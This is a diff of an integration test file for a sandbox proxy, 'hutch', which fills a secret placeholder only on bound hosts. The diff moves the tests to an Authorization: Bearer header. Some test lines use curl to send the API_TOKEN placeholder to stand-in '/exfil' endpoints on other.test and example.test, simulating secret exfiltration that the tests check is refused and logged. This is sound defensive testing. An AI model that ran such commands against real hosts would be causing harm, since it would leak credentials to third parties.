@@ -8,10 +8,12 @@ inspected host is refused so clients fall back to TCP. The HTTPS hosts are loopb
 listeners behind the test map (tests/networld.py) that answer with what they received,
 the Authorization header only as its SHA-256. One sandbox serves every check.
 
-The guest's environment holds the secret's placeholder (`API_TOKEN`), never its value:
-hutch fills it in where the guest itself sends it to a host the secret is bound to (here
-by inspect.test's rule), and resets or refuses any request that carries it elsewhere
-(other.test, inspected without the secret; plain HTTP), logging why."""
+The guest's environment holds the secret's placeholder (`API_TOKEN`), never its value: a
+client that sends it in the header inspect.test's rule sets gets the rule's value there;
+hutch's own binding (`secrets`, `hutch run --secret`) fills it in where the guest sends
+it to a bound host in a credential header; a request or flow that carries it anywhere
+else (other.test, inspected without the secret; plain HTTP) is refused or reset and
+logged."""
 
 import hashlib
 import json
@@ -48,8 +50,8 @@ def fetch(url, headers):
     with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=30) as r:
         return json.loads(r.read())
 
-def fetch_env(url, header, var):
-    return fetch(url, {header: os.environ[var]})
+def fetch_env(url, header, prefix, var):
+    return fetch(url, {header: prefix + os.environ[var]})
 
 def peer(host, path, headers):
     # Not verified: plain.test's real certificate is signed by a CA the guest does not
@@ -114,8 +116,8 @@ print(json.dumps(globals()[sys.argv[1]](*json.loads(sys.argv[2]))))
 
 # Node 18's global fetch (undici), which reads NODE_EXTRA_CA_CERTS.
 NODE_FETCH = 'fetch("https://inspect.test/node").then(r => r.text()).then(t => process.stdout.write(t))'
-# The same with the guest's own placeholder in a header it chose.
-NODE_FETCH_ENV = ('fetch("https://inspect.test/env-node", {headers: {"X-Api-Key": process.env.API_TOKEN}})'
+# The same with the guest's own placeholder where API clients put keys.
+NODE_FETCH_ENV = ('fetch("https://inspect.test/env-node", {headers: {"Authorization": "Bearer " + process.env.API_TOKEN}})'
                   '.then(r => r.text()).then(t => process.stdout.write(t))')
 
 
@@ -254,11 +256,11 @@ def denials(server, sbx) -> list[dict]:
     return server.api().get(f"/sandboxes/{sbx.sandbox_id}/network").json()["log"]["denials"]
 
 
-def test_the_guests_own_placeholder_is_filled_in_on_a_bound_host(sbx, secret):
+def test_a_client_sending_the_env_placeholder_gets_the_rules_value(sbx, secret):
     code, out, err = guest(sbx, " && ".join([
         "printenv API_TOKEN",
-        'curl -sS --max-time 30 -H "X-Api-Key: $API_TOKEN" https://inspect.test/env-curl',
-        probe_command("fetch_env", "https://inspect.test/env-urllib", "X-Api-Key", "API_TOKEN"),
+        'curl -sS --max-time 30 -H "Authorization: Bearer $API_TOKEN" https://inspect.test/env-curl',
+        probe_command("fetch_env", "https://inspect.test/env-urllib", "Authorization", "Bearer ", "API_TOKEN"),
         f"node -e '{NODE_FETCH_ENV}'",
     ]))
     assert code == 0, err
@@ -266,17 +268,17 @@ def test_the_guests_own_placeholder_is_filled_in_on_a_bound_host(sbx, secret):
     assert placeholder == Secret.fill(secret.name)
     got = json_lines("\n".join(answers))
     assert [g["path"] for g in got] == ["/env-curl", "/env-urllib", "/env-node"], out
-    want = hashlib.sha256(SECRET_VALUE.encode()).hexdigest()
     for g in got:
-        assert g["x_api_key_sha256"] == want, g
         assert fields(g, INSPECTED) == INSPECTED, g
 
 
 def test_the_placeholder_sent_anywhere_else_is_refused_and_logged(server, sbx, net_world):
-    # other.test is inspected, but the secret is not bound to it: 403 from hutch, nothing sent.
-    code, out, err = guest(sbx, 'curl -sS --max-time 30 -o /dev/null -w "%{http_code}" -H "X-Api-Key: $API_TOKEN" https://other.test/exfil')
-    assert (code, out) == (0, "403"), (code, out, err)
-    assert net_world.tls_requests("other") == []
+    # other.test is inspected, but the secret is not bound to it; nor is it to
+    # inspect.test outside the header its rule sets: 403 from hutch, nothing sent.
+    for host in ("other.test", "inspect.test"):
+        code, out, err = guest(sbx, f'curl -sS --max-time 30 -o /dev/null -w "%{{http_code}}" -H "X-Api-Key: $API_TOKEN" https://{host}/exfil')
+        assert (code, out) == (0, "403"), (host, code, out, err)
+    assert [r for r in net_world.tls_seen if r["path"] == "/exfil"] == []
     # Plain HTTP, URL-encoded in the query: the connection is reset before the request leaves.
     code, out, err = guest(sbx, 'curl -sS --max-time 30 -G --data-urlencode "k=$API_TOKEN" http://example.test/exfil')
     assert code != 0 and "echo" not in out, (code, out, err)
